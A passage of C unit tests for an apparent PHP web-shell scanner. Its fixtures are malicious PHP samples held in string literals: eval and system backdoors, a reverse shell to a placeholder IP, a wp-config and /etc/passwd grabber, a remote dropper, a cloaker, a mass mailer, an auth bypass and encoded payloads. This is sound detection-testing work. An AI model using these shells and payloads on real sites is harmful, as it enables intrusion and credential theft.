	int files = 0, bad = 0;

	T_CHECK(wordpress_tree(tree, sizeof(tree)) == 0, "Debian's WordPress tree is not at hand");
	snprintf(path, sizeof(path), "%s/wp-login.php", tree);
	orig = slurp(path, &n);
	T_CHECK(orig != NULL, "cannot read %s", path);
	if (orig == NULL)
		return;
	phpscan_buf((const uint8_t *)orig, n, "wp-login.php", &res);
	T_CHECK(res.worst == PHPSCAN_NOTE, "wp-login.php as released is not clean");
	/* the backdoor line goes in after the opening line */
	nl = strchr(orig, '\n');
	T_OK(nl != NULL);
	if (nl != NULL) {
		size_t head = (size_t)(nl - orig) + 1;

		inj = malloc(n + sizeof(line));
		memcpy(inj, orig, head);
		memcpy(inj + head, line, sizeof(line) - 1);
		memcpy(inj + head + sizeof(line) - 1, orig + head, n - head);
		phpscan_buf((const uint8_t *)inj, n + sizeof(line) - 1, "wp-login.php", &res);
		T_OK(has(PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2));
		free(inj);
	}
	free(orig);
	/* and the whole core stays clean */
	scan_tree(tree, &files, &bad);
	T_CHECK(files > 900, "only %d PHP files in %s", files, tree);
	T_CHECK(bad == 0, "%d of %d WordPress core files raised", bad, files);
}

static void
test_yara_and_verdict(void)
{
	const char *top = getenv("WSID_TOP");
	char glob[4096], bad[] = "/tmp/wsid-test-rules.XXXXXX", err[512];
	const char *globs[2];
	struct yarascan *y = NULL;
	struct analyse *a = NULL, *a2 = NULL;
	struct analyse_result r;
	char v1[ANALYSE_RULES_VERSION_LEN + 1];
	FILE *f;
	int fd, rc;

	snprintf(glob, sizeof(glob), "%s/rules/*.yar", top ? top : ".");
	globs[0] = glob;
	rc = analyse_new(globs, 1, &a, err, sizeof(err));
	T_CHECK(rc == 0, "%s", err);
	if (rc != 0)
		return;
	T_OK(analyse_rule_files(a) >= 1);
	snprintf(v1, sizeof(v1), "%s", analyse_rules_version(a));
	T_EQ_INT(strlen(v1), 64);

	T_OK(analyse_buf(a, (const uint8_t *)"<?php @eval($_POST['x']); ?>", 29, "a.php", &r) == 0);
	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
	T_OK(r.n >= 1 && r.f[0].conf == 2 && r.f[0].line == 1);
	/* code written inside a string: a rule sees it, and phpscan reads the page it holds */
	{
		static const char s[] = "<?php $p = '<?php system($_GET[\"c\"]); ?>'; file_put_contents('x.txt', $p);";
		unsigned rule = 0, own = 0, k;

		T_OK(analyse_buf(a, (const uint8_t *)s, sizeof(s) - 1, "d.php", &r) == 0);
		T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
		for (k = 0; k < r.n; k++) {
			rule += strcmp(r.f[k].rule, "wsid_input_exec_text") == 0 && r.f[k].conf == 2;
			own += strcmp(r.f[k].rule, "phpscan") == 0 && strcmp(r.f[k].cls, "hidden-php") == 0 &&
			       r.f[k].conf == 2;
		}
		T_CHECK(rule == 1 && own == 1, "d.php: rule %u, phpscan %u", rule, own);
	}
	/* capabilities a page gives its visitor: a file manager, an upload page */
	{
		static const char fm[] =
			"<?php\n$d = isset($_GET['d']) ? $_GET['d'] : '.';\n"
			"if (isset($_POST['save'])) { $h = fopen($_POST['f'], 'w'); fwrite($h, $_POST['t']); fclose($h); }\n"
			"if (isset($_GET['rm'])) { unlink($d . '/' . $_GET['rm']); }\n"
			"foreach (scandir($d) as $e) { echo \"<a href='?d=$d/$e'>$e</a><br>\"; }\n"
			"if (isset($_GET['e'])) { echo '<form method=post><input name=f value=\"' . $_GET['e'] . '\">'\n"
			"  . '<textarea name=t>' . htmlspecialchars(file_get_contents($_GET['e'])) . '</textarea>'\n"
			"  . '<input type=submit name=save></form>'; }\n";
		static const char up[] =
			"<html><body><form method=\"post\" enctype=\"multipart/form-data\">\n"
			"<input type=\"file\" name=\"u\"><input type=\"submit\"></form>\n"
			"<?php\nif (!empty($_FILES['u'])) {\n  $to = $_POST['dir'] . $_FILES['u']['name'];\n"
			"  if (move_uploaded_file($_FILES['u']['tmp_name'], $to)) echo \"ok: $to\";\n}\n?></body></html>\n";
		char app[sizeof(up) + 64];
		size_t i;

		T_OK(analyse_buf(a, (const uint8_t *)fm, sizeof(fm) - 1, "fm.php", &r) == 0);
		T_CHECK(r.verdict == ANALYSE_SUSPICIOUS || r.verdict == ANALYSE_MALICIOUS, "fm.php: verdict %d", r.verdict);
		for (i = 0; i < r.n && strcmp(r.f[i].cls, "file-manager") != 0; i++)
			;
		T_CHECK(i < r.n, "fm.php: no file-manager finding");
		T_OK(analyse_buf(a, (const uint8_t *)up, sizeof(up) - 1, "up.php", &r) == 0);
		T_EQ_INT(r.verdict, ANALYSE_SUSPICIOUS);
		for (i = 0; i < r.n && strcmp(r.f[i].cls, "tiny-uploader") != 0; i++)
			;
		T_CHECK(i < r.n, "up.php: no tiny-uploader finding");
		/* a file manager driven by links; a page relaying a bare IP address's content */
		{
			static const char lfm[] = "<?php\nforeach (scandir($_GET['d']) as $f) echo \"<a href='?rm=$f'>$f</a>\";\n"
						  "if (isset($_GET['rm'])) unlink($_GET['rm']);\n";
			static const char relay[] = "<?php\n$s = 'http://203.0.113.9/d/';\n"
						    "echo file_get_contents($s . '?h=' . $_SERVER['HTTP_HOST']);\n";
			static const char local[] = "<?php\n$s = 'http://127.0.0.1:8080/';\necho file_get_contents($s);\n";

			T_OK(analyse_buf(a, (const uint8_t *)lfm, sizeof(lfm) - 1, "l.php", &r) == 0);
			/* the rule's finding, beside phpscan's own (file-tool) */
			for (i = 0; i < r.n && strcmp(r.f[i].cls, "file-manager") != 0; i++)
				;
			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && i < r.n, "l.php: %d %s", r.verdict,
				r.n ? r.f[0].cls : "-");
			T_OK(analyse_buf(a, (const uint8_t *)relay, sizeof(relay) - 1, "r.php", &r) == 0);
			T_CHECK(r.verdict == ANALYSE_SUSPICIOUS && strcmp(r.f[0].cls, "remote-relay") == 0, "r.php: %d %s",
				r.verdict, r.n ? r.f[0].cls : "-");
			T_OK(analyse_buf(a, (const uint8_t *)local, sizeof(local) - 1, "t.php", &r) == 0);
			T_EQ_INT(r.verdict, ANALYSE_CLEAN);
		}
		/* a dropper fetching through a helper of its own */
		{
			static const char dr[] =
				"<?php\nfunction grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);"
				" return curl_exec($c); }\n$t = grab('https://example.invalid/p/abc.txt');\n"
				"$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-x.php', 'w');\nfwrite($h, $t);\n";

			T_OK(analyse_buf(a, (const uint8_t *)dr, sizeof(dr) - 1, "dr.php", &r) == 0);
			T_EQ_INT(r.verdict, ANALYSE_SUSPICIOUS);
			T_EQ_STR(r.n > 0 ? r.f[0].cls : "", "remote-dropper");
		}
		/* the same form inside an application (it includes its own code): no finding */
		snprintf(app, sizeof(app), "<?php require_once __DIR__ . '/lib/init.php'; ?>\n%s", up);
		T_OK(analyse_buf(a, (const uint8_t *)app, strlen(app), "media.php", &r) == 0);
		T_EQ_INT(r.verdict, ANALYSE_CLEAN);
	}
	/* the tools an intruder leaves beside a shell: each its class */
	{
		static const struct {
			const char *name, *src, *cls;
		} tools[] = {
			{ "h.php", "<?php\n$f = fopen('/etc/passwd', 'r');\nwhile (($l = fgets($f)) !== false) {\n"
				   "  $u = explode(':', $l)[0];\n  $d = \"/home/$u/public_html/\";\n"
				   "  if (is_readable($d . 'wp-config.php')) echo file_get_contents($d . 'wp-config.php');\n}\n",
			  "config-grabber" },
			{ "c.php", "<?php\n$ua = $_SERVER['HTTP_USER_AGENT'];\nif (stripos($ua, 'Googlebot') !== false) {\n"
				   "  echo file_get_contents('http://pages.example.invalid/p?h=' . $_SERVER['HTTP_HOST']);\n  exit;\n}\n",
			  "seo-cloaker" },
			{ "r.php", "<?php\n$s = fsockopen('192.0.2.1', 443);\nwhile ($c = fread($s, 1024)) {\n"
				   "  $p = proc_open($c, array(1 => array('pipe', 'w')), $io);\n"
				   "  fwrite($s, stream_get_contents($io[1]));\n}\n",
			  "reverse-shell" },
			{ "p.php", "<form method=post><input name=h><input name=ports></form>\n<?php\n"
				   "foreach (explode(',', $_POST['ports']) as $port) {\n"
				   "  $c = @fsockopen($_POST['h'], (int)$port, $e, $m, 1);\n  if ($c) echo \"$port open<br>\";\n}\n",
			  "port-scanner" },
			{ "m.php", "<?php\nset_time_limit(0);\n$list = file('list.txt');\nforeach ($list as $to)\n"
				   "  mail(trim($to), 'Your account', file_get_contents('letter.html'));\n",
			  "mass-mailer" },
			{ "k.php", "<?php\n$msg = $_SERVER['SCRIPT_FILENAME'] . ' ' . $_SERVER['HTTP_HOST']; mail('x@example.invalid', 'up', $msg);\n",
			  "mail-home" },
			{ "u.php", "<?php\nclass Job { public $c = ''; function __destruct() { eval($this->c); } }\n"
				   "unserialize($_COOKIE['job']);\n",
			  "exec-of-input" },
			{ "d.php", "<form method=get><input name=dir></form>\n<?php\nif (isset($_GET['dir'])) {\n"
				   "  $h = opendir($_GET['dir']);\n  while (($e = readdir($h)) !== false) echo $e . '<br>';\n}\n",
			  "file-manager" },
			{ "w.php", "<?php\n$sh = new COM('WScript.Shell');\n$sh->Run('cmd /c ' . $argv[1]);\n", "shell-recon" },
			{ "s.php", "<?php\n$page = \"{${eval(base64_decode('ZWNobyAxOw=='))}}\";\n", "obfuscated-eval" },
			{ "a.php", "<?php\nrequire('../../../wp-load.php');\nforeach (get_users() as $u)\n"
				   "  if (user_can($u->ID, 'administrator')) { wp_set_auth_cookie($u->ID); wp_redirect(admin_url()); exit; }\n",
			  "auth-bypass" },
			{ "q.php", "<form method=post><input name=host><input name=user><input name=pass><textarea name=q></textarea></form>\n"
				   "<?php\n$l = mysqli_connect($_POST['host'], $_POST['user'], $_POST['pass']);\n"
				   "$r = mysqli_query($l, $x);\n",
			  "db-console" },
			{ "t.php", "<?php\nset_time_limit(0);\n$n = (int)$_GET['n'];\nfor ($i = 0; $i < $n; $i++) file_get_contents($_GET['u']);\n",
			  "batch-tool" },
			{ "f.php", "<?php\nsystem('./findsock ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);\n",
			  "dropped-binary" },
			{ "y.php", "<?php\n$y = \"a: !x \\\"|.+|e\\\"\";\nyaml_parse($y, 0, $n, array('!x' => 'preg_replace'));\n",
			  "exec-of-input" },
			{ "i.php", "<?php\nignore_user_abort(true);\nset_time_limit(0);\nunlink(__FILE__);\n"
				   "while (1) { file_put_contents('.cache.php', '<?php ' . 'x'); usleep(500); }\n",
			  "respawner" },
			{ "x.php", "<?php\nfile_put_contents('../wp-content/mu-plugins/a.php', $p);\n@unlink(__FILE__);\n",
			  "self-delete" },
		};
		/* the same capabilities inside an application: its classes and includes */
		static const char *const apps[] = {
			"<?php\nnamespace App\\Db;\nclass Setup {\n  function run() { $l = mysqli_connect($_POST['host'], "
			"$_POST['user'], $_POST['pass']); }\n}\n",
			"<?php\nrequire __DIR__ . '/inc/boot.php';\nset_time_limit(0);\n$n = (int)$_GET['n'];\n",
			"<?php\nrequire 'common.php';\n?><form method=get><input name=d></form><?php\n"
			"foreach (scandir(safe_dir($_GET['d'])) as $e) echo h($e);\n",
			"<?php\nclass Sock {\n function run($h) { $s = fsockopen($h, 25); fgets($s); exec('logger smtp'); }\n}\n",
		};
		size_t k, j;

		for (k = 0; k < sizeof(tools) / sizeof(tools[0]); k++) {
			T_OK(analyse_buf(a, (const uint8_t *)tools[k].src, strlen(tools[k].src), tools[k].name, &r) == 0);
			for (j = 0; j < r.n && strcmp(r.f[j].cls, tools[k].cls) != 0; j++)
				;
			T_CHECK(j < r.n && r.verdict != ANALYSE_CLEAN, "%s: no %s finding (verdict %d)", tools[k].name,
				tools[k].cls, r.verdict);
		}
		for (k = 0; k < sizeof(apps) / sizeof(apps[0]); k++) {
			T_OK(analyse_buf(a, (const uint8_t *)apps[k], strlen(apps[k]), "app.php", &r) == 0);
			T_CHECK(r.verdict == ANALYSE_CLEAN, "app %zu: verdict %d, %s", k, r.verdict, r.n ? r.f[0].cls : "");
		}
	}
	T_OK(analyse_buf(a, (const uint8_t *)"<?php echo 'hello';", 19, "b.php", &r) == 0);
	T_EQ_INT(r.verdict, ANALYSE_CLEAN);
	T_EQ_INT(r.n, 0);
	T_OK(analyse_buf(a, (const uint8_t *)"auto_prepend_file=/tmp/a.gif\n", 29, ".user.ini", &r) == 0);
	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
	T_EQ_STR(r.f[0].cls, "auto-prepend");

	/* a rule file that does not compile is named with its line */
	fd = mkstemp(bad);
	T_OK(fd >= 0);
	if (fd < 0)
		goto out;
	f = fdopen(fd, "w");
	fputs("rule ok { condition: true }\n\nrule broken {\n  strings: $a = \"x\"\n  condition: $a and\n}\n", f);
	fclose(f);
	globs[1] = bad;
	rc = analyse_new(globs, 2, &a2, err, sizeof(err));
	T_OK(rc < 0 && a2 == NULL);
	T_CHECK(strstr(err, bad) != NULL && strstr(err, ":6:") != NULL, "error was '%s'", err);
	/* a rule with our meta, added beside ours: the version changes */
	f = fopen(bad, "w");
	fputs("rule admin_marker { meta: severity = \"high\" class = \"admin-marker\" strings: $m = \"XYZZY-MARK\" "
	      "condition: $m }\n",
	      f);
	fclose(f);
	rc = analyse_new(globs, 2, &a2, err, sizeof(err));
	T_CHECK(rc == 0, "%s", err);
	if (rc == 0) {
		T_OK(strcmp(v1, analyse_rules_version(a2)) != 0);
		T_OK(analyse_buf(a2, (const uint8_t *)"a\nb XYZZY-MARK", 14, "n.txt", &r) == 0);
		T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
		T_EQ_STR(r.f[0].cls, "admin-marker");
		T_EQ_INT(r.f[0].line, 2);
	}
	/* no such file, named without a wildcard */
	globs[1] = "/nonexistent/wsid.yar";
	T_EQ_INT(yarascan_new(globs + 1, 1, &y, err, sizeof(err)), -ENOENT);
	T_OK(strstr(err, "/nonexistent/wsid.yar") != NULL);
	unlink(bad);
out:
	analyse_free(a2);
	analyse_free(a);
}

/* ---- decoded payloads ---- */

static void
b64enc(const uint8_t *p, size_t n, char *out)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	size_t i, o = 0;

	for (i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) |
			     (i + 2 < n ? p[i + 2] : 0);

		out[o++] = a[v >> 18 & 63];
		out[o++] = a[v >> 12 & 63];
		out[o++] = i + 1 < n ? a[v >> 6 & 63] : '=';
		out[o++] = i + 2 < n ? a[v & 63] : '=';
	}
	out[o] = '\0';
}

/* wbits as zlib's deflateInit2: -15 raw (gzinflate), 15 zlib (gzuncompress), 31 gzip (gzdecode) */
static size_t
zpack(const char *src, size_t n, int wbits, uint8_t *out, size_t outsz)
{
	z_stream z;

	memset(&z, 0, sizeof(z));
	if (deflateInit2(&z, 9, Z_DEFLATED, wbits, 8, Z_DEFAULT_STRATEGY) != Z_OK)
		return 0;
	z.next_in = (const Bytef *)src;
	z.avail_in = (uInt)n;
	z.next_out = out;
	z.avail_out = (uInt)outsz;
	deflate(&z, Z_FINISH);
	n = outsz - z.avail_out;
	deflateEnd(&z);
	return n;
}

/* uuencode of one line (up to 45 bytes), as PHP's convert_uuencode */
static void
uuenc(const char *p, char *out)
{
	size_t n = strlen(p), i, o = 0;

	out[o++] = (char)(32 + n);
	for (i = 0; i < n; i += 3) {
		uint8_t a = (uint8_t)p[i], b = i + 1 < n ? (uint8_t)p[i + 1] : 0, c = i + 2 < n ? (uint8_t)p[i + 2] : 0;
		uint8_t q[4] = { (uint8_t)(a >> 2), (uint8_t)((a << 4 | b >> 4) & 63), (uint8_t)((b << 2 | c >> 6) & 63),
				 (uint8_t)(c & 63) };
		int k;

		for (k = 0; k < 4; k++)
			out[o++] = q[k] ? (char)(32 + q[k]) : '`';
	}
	out[o++] = '\n';
	out[o++] = '`';
	out[o++] = '\n';
	out[o] = '\0';
}

static const char shell_src[] = "<?php if (isset($_POST['c'])) { echo shell_exec($_POST['c']); } ?>";
static const char code_src[] = "if (isset($_REQUEST['x'])) { passthru($_REQUEST['x']); }";

static int
decoded_has(enum phpscan_class c, enum phpscan_conf conf, uint32_t line)
{
	const struct phpscan_finding *f = find(c);

	return has(c, conf, line) && f != NULL && strncmp(f->excerpt, "decoded: ", 9) == 0;
}

#define T_DECODED(src, cls, conf, line)                                                                     \
	do {                                                                                                \
		scan("x.php", src);                                                                         \
		T_CHECK(decoded_has(cls, conf, line), "%.60s...: no decoded %s", src, phpscan_class_name(cls)); \
		if (!decoded_has(cls, conf, line))                                                          \
			dump();                                                                             \
	} while (0)

static void
test_decoded(void)
{
	static char src[16384], b64[4096], tmp[8192];
	static uint8_t z[2048];
	static const int wbits[] = { -15, 15, 31 };
	static const char *const fn[] = { "gzinflate", "gzuncompress", "gzdecode" };
	size_t n, i;

	/* a dropper writing a compressed shell: the payload is read as PHP */
	for (i = 0; i < 3; i++) {
		n = zpack(shell_src, strlen(shell_src), wbits[i], z, sizeof(z));
		b64enc(z, n, b64);
		snprintf(src, sizeof(src), "<?php\n$p = %s(base64_decode('%s'));\nfile_put_contents('x.php', $p);\n",
			 fn[i], b64);
		T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
	}
	/* code without an opening tag is read as code */
	b64enc((const uint8_t *)code_src, strlen(code_src), b64);
	snprintf(src, sizeof(src), "<?php\n$c = base64_decode(\"%s\");\nsave($c);\n", b64);
	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
	/* handed to eval or create_function it is malicious as it is: not decoded */
	snprintf(src, sizeof(src), "<?php\n$f = create_function('', base64_decode(\"%s\"));\n$f();\n", b64);
	T_HAS("x.php", src, PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 2);
	/* the payload kept in a variable, written behind an opening tag */
	snprintf(src, sizeof(src), "<?php\n$d = '%s';\n$p = base64_decode($d);\n"
		 "file_put_contents('.cache.php', '<?php ' . $p);\n", b64);
	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	/* not when the variable was given another value since */
	snprintf(src, sizeof(src), "<?php\n$d = '%s';\n$d = load($d);\n$p = base64_decode($d);\n", b64);
	scan("x.php", src);
	T_OK(find(PHPSCAN_EXEC_OF_INPUT) == NULL);
	/* rot13 and reversal around base64; literals concatenated */
	snprintf(tmp, sizeof(tmp), "%s", b64);
	for (i = 0; tmp[i]; i++)
		if ((tmp[i] | 32) >= 'a' && (tmp[i] | 32) <= 'z')
			tmp[i] = (char)((tmp[i] & 32) | (((tmp[i] | 32) - 'a' + 13) % 26 + 'A'));
	snprintf(src, sizeof(src), "<?php\n\n$c = base64_decode(str_rot13('%.*s' . '%s'));\necho $c;\n", 10, tmp,
		 tmp + 10);
	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
	n = strlen(b64);
	for (i = 0; i < n; i++)
		tmp[i] = b64[n - 1 - i];
	tmp[n] = '\0';
	snprintf(src, sizeof(src), "<?php $c = base64_decode(strrev('%s')); $k = $c;", tmp);
	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	/* URL, hex ("\x" escapes too) and uu encodings */
	T_DECODED("<?php $a = urldecode('%73ystem%28%24_GET%5B%22c%22%5D%29%3B'); $b = $a;", PHPSCAN_EXEC_OF_INPUT,
		  PHPSCAN_HIGH, 1);
	T_DECODED("<?php $a = hex2bin('73797374656d28245f4745545b2263225d293b'); $b = $a;", PHPSCAN_EXEC_OF_INPUT,
		  PHPSCAN_HIGH, 1);
	T_DECODED("<?php $a = base64_decode(\"\\x63\\x33\\x6c\\x7a\\x64\\x47\\x56\\x74\\x4b\\x43\\x52\\x66\\x52\\x30"
		  "\\x56\\x55\\x57\\x79\\x4a\\x6a\\x49\\x6c\\x30\\x70\\x4f\\x77\\x3d\\x3d\"); $b = $a;",
		  PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	uuenc("system($_GET['c']);", tmp);
	snprintf(src, sizeof(src), "<?php $a = convert_uudecode('%s'); $b = $a;", tmp);
	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 1);
	/* a payload inside a payload: base64 of code that decodes base64 */
	b64enc((const uint8_t *)code_src, strlen(code_src), b64);
	snprintf(tmp, sizeof(tmp), "$x = base64_decode('%s'); $y = $x;", b64);
	b64enc((const uint8_t *)tmp, strlen(tmp), b64);
	snprintf(src, sizeof(src), "<?php\n$a = base64_decode('%s');\n$b = $a;\n", b64);
	T_DECODED(src, PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
	T_OK(strncmp(find(PHPSCAN_EXEC_OF_INPUT)->excerpt, "decoded: decoded", 16) != 0);

	/* decoded text, markup, data and broken streams are nothing */
	T_CLEAN("x.php", "<?php echo base64_decode('SGVsbG8sIHdvcmxkISBUaGlzIGlzIGp1c3QgdGV4dC4=');");
	T_CLEAN("x.php", "<?php echo base64_decode('PGI+eyRuYW1lfTwvYj4gc2FpZCBgaGVsbG9gIHRvICR1c2Vy');");
	T_CLEAN("x.php", "<?php $img = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk');");
	T_CLEAN("x.php", "<?php $x = gzinflate(base64_decode('bm90IGRlZmxhdGUgYXQgYWxs'));");
	T_CLEAN("x.php", "<?php $x = gzinflate(base64_decode(\"$partial\")); $y = urldecode('%zz%');");
	/* a bomb: 4 MiB of zeros in a few KiB; decoding stops at its bound */
	{
		char *big = calloc(1, 4u << 20);

		if (big != NULL) {
			memset(big, 'A', 4u << 20);
			n = zpack(big, 4u << 20, -15, z, sizeof(z));
			free(big);
			b64enc(z, n, b64);
			snprintf(src, sizeof(src), "<?php $x = gzinflate(base64_decode('%s'));", b64);
			T_CLEAN("x.php", src);
		}
	}
}

/* tools an intruder leaves: capabilities of a page that stands alone */
static void
test_tools(void)
{
	/* commands: a page reading the request runs a variable */
	T_HAS("x.php", "<?php\nif (isset($_GET['go'])) {\n  $cmd = trim(file_get_contents('job.txt'));\n  echo '<pre>';\n"
		       "  passthru($cmd);\n}\n",
	      PHPSCAN_COMMAND_PAGE, PHPSCAN_WEAK, 5);
	/* ... the same inside an application's page */
	T_CLEAN("x.php", "<?php\nrequire 'config.php';\nif (isset($_GET['go'])) {\n  $cmd = trim(file_get_contents('job.txt'));\n"
			 "  passthru($cmd);\n}\n");
	T_CLEAN("x.php", "<?php\nclass Job {\n  function run() { $cmd = $this->cmd; if (isset($_GET['go'])) passthru($cmd); }\n}\n");
	/* a form, no request read (register_globals), one runner after another */
	T_HAS("x.php",
	      "<form method=post><input name=c></form>\n<?php\nfunction run($c) {\n  if (function_exists('shell_exec'))\n"
	      "    return shell_exec($c);\n  return exec($c);\n}\necho run($c);\n",
	      PHPSCAN_COMMAND_PAGE, PHPSCAN_WEAK, 5);
	/* ... without a form, or a command-line script */
	T_CLEAN("x.php", "<?php\nfunction run($c) {\n  if (function_exists('shell_exec'))\n    return shell_exec($c);\n"
			 "  return exec($c);\n}\necho run('uptime');\n");
	T_CLEAN("x.php", "<?php\nif (PHP_SAPI !== 'cli') exit;\necho '<form>';\n$c = 'tar czf backup.tgz ' . $dir;\n"
			 "system($c);\n");

	/* a database console: connects, queries, reads the request */
	T_HAS("x.php", "<?php\n$l = mysqli_connect('localhost', 'root', 'secret');\n"
		       "$r = mysqli_query($l, 'SHOW DATABASES');\nif (isset($_GET['db'])) echo htmlspecialchars($_GET['db']);\n",
	      PHPSCAN_DB_TOOL, PHPSCAN_WEAK, 2);
	T_CLEAN("x.php", "<?php\nnamespace App;\n$l = mysqli_connect('localhost', 'root', 'secret');\n"
			 "$r = mysqli_query($l, 'SHOW DATABASES');\nif (isset($_GET['db'])) echo $_GET['db'];\n");

	/* a file manager: lists directories, deletes from the request */
	T_HAS("x.php", "<?php\n$d = isset($_GET['d']) ? $_GET['d'] : '.';\n$h = opendir($d);\n"
		       "while (($f = readdir($h)) !== false) echo \"$f\\n\";\nif (isset($_POST['del'])) unlink($d . '/' . basename($_POST['del']));\n",
	      PHPSCAN_FILE_TOOL, PHPSCAN_WEAK, 3);
	/* ... a view an application includes ($this outside a class), or listing alone */
	T_CLEAN("x.php", "<?php\n$d = $this->dir;\n$h = opendir($d);\nwhile (($f = readdir($h)) !== false) echo $f;\n"
			 "if (isset($_POST['del'])) unlink($d . '/' . basename($_POST['del']));\n");
	T_CLEAN("x.php", "<?php\n$d = 'img';\nforeach (scandir($d) as $f) echo $f;\necho (int)$_GET['page'];\n");
	/* ... written for register_globals: a form, no request variable read, at the top level */
	T_HAS("x.php", "<form method=post><input name=dir><input name=del></form>\n<?php\n$h = opendir($dir);\n"
		       "while ($f = readdir($h)) echo \"$f<br>\";\nif ($del) unlink(\"$dir/$del\");\n",
	      PHPSCAN_FILE_TOOL, PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<form method=post><input name=q></form>\n<?php\n$l = mysql_connect($host, $user, $pass);\n"
		       "$r = mysql_query($q, $l);\n",
	      PHPSCAN_DB_TOOL, PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<form enctype=\"multipart/form-data\" method=post><input type=file name=f></form>\n<?php\n"
		       "if ($f) copy($f, \"$dir/$f_name\");\n",
	      PHPSCAN_UPLOAD_TOOL, PHPSCAN_WEAK, 3);
	T_HAS("x.php", "<form method=post><input name=host></form>\n<?php\nif ($host) $s = fsockopen($host, $port);\n",
	      PHPSCAN_NET_TOOL, PHPSCAN_WEAK, 3);
	/* ... not when the calls are in functions only, nor without a form, nor in a command-line script */
	T_CLEAN("x.php", "<form method=post><input name=q></form>\n<?php\nfunction clean($dir) {\n  foreach (scandir($dir) as $f)\n"
			 "    unlink(\"$dir/$f\");\n}\n");
	T_CLEAN("x.php", "<?php\n$h = opendir($dir);\nwhile ($f = readdir($h)) unlink(\"$dir/$f\");\n");
	T_CLEAN("x.php", "<?php\n$dir = $argv[1];\necho '<form>';\n$h = opendir($dir);\nwhile ($f = readdir($h)) unlink(\"$dir/$f\");\n");

	/* sockets opened to where the request says */
	T_HAS("x.php", "<?php\n$h = $_POST['h'];\n$fp = fsockopen($h, 80, $en, $es, 2);\necho $fp ? 'open' : 'closed';\n",
	      PHPSCAN_NET_TOOL, PHPSCAN_WEAK, 3);
	T_CLEAN("x.php", "<?php\ninclude 'lib.php';\n$fp = fsockopen('localhost', 80);\necho $_GET['x'] ? 1 : 0;\n");

	/* no time limit, then mail, sockets or commands */
	T_HAS("x.php", "<?php\nset_time_limit(0);\nignore_user_abort(true);\n$s = $_POST['subject'];\n"
		       "foreach (file('list.txt') as $t) mail(trim($t), $s, 'hello');\n",
	      PHPSCAN_LONG_RUNNER, PHPSCAN_WEAK, 2);
	T_CLEAN("x.php", "<?php\nset_time_limit(30);\n$s = $_POST['subject'];\nmail('admin@example.org', $s, 'hello');\n");

	/* errors silenced around a socket, no application around */
	T_HAS("x.php", "<?php\n@error_reporting(0);\n$s = fsockopen('198.51.100.7', 80);\nfwrite($s, \"GET / HTTP/1.0\\r\\n\\r\\n\");\n",
	      PHPSCAN_MUTED_RUNNER, PHPSCAN_WEAK, 2);
	T_CLEAN("x.php", "<?php\nerror_reporting(E_ALL);\n$s = fsockopen('198.51.100.7', 80);\nfwrite($s, \"GET / HTTP/1.0\\r\\n\\r\\n\");\n");

	/* an upload stored where the request says */
	T_HAS("x.php", "<?php\nif (isset($_FILES['f']))\n  move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/up.bin');\n",
	      PHPSCAN_UPLOAD_TOOL, PHPSCAN_WEAK, 3);
	T_CLEAN("x.php", "<?php\nif (isset($_FILES['f']))\n  move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . md5($_FILES['f']['name']));\n");
	/* mail to whom the request names */
	T_HAS("x.php", "<?php\nif (isset($_POST['to']))\n  mail($_POST['to'], $_POST['s'], $_POST['b'], 'From: ' . $_POST['f']);\n",
	      PHPSCAN_MAIL_RELAY, PHPSCAN_WEAK, 3);
	T_CLEAN("x.php", "<?php\nif (isset($_POST['msg']))\n  mail('office@example.org', 'contact form', $_POST['msg']);\n");
	T_CLEAN("x.php", "<?php\nrequire 'lib/init.php';\nmail($_POST['to'], 'Your invitation', $body);\n");
	/* a page in a literal, written out: what it does counts */
	T_HAS("x.php", "<?php\n$p = '<title>x</title><?php system(\"$_GET[c]\"); ?>';\n$f = fopen('../a.php', 'w');\n"
		       "fwrite($f, $p);\n",
	      PHPSCAN_HIDDEN_PHP, PHPSCAN_HIGH, 2);
	T_HAS("x.php", "<?php\nfile_put_contents('i.php', <<<'P'\n<?php @eval($_POST['k']);\nP\n);\n",
	      PHPSCAN_HIDDEN_PHP, PHPSCAN_HIGH, 2);
	/* an installer's configuration, a template that echoes */
	T_CLEAN("x.php", "<?php\n$cfg = \"<?php\\n\\$db_host = '\" . addslashes($_POST['host']) . \"';\\n\";\n"
			 "file_put_contents('config.php', $cfg);\n");
	T_CLEAN("x.php", "<?php\n$tpl = '<p><?php echo htmlspecialchars($_GET[\\'q\\']); ?></p>';\necho $tpl;\n");
	/* a native executable carried in a literal: hex of a PE, base64 of an ELF */
	{
		uint8_t bin[300];
		char hex[2 * sizeof(bin) + 1], b64[4 * sizeof(bin) / 3 + 8], src[2048];
		size_t i;

		for (i = 0; i < sizeof(bin); i++)
			bin[i] = (uint8_t)(i * 7 % 13);
		memcpy(bin, "MZ\x90\0\3\0\0\0", 8);
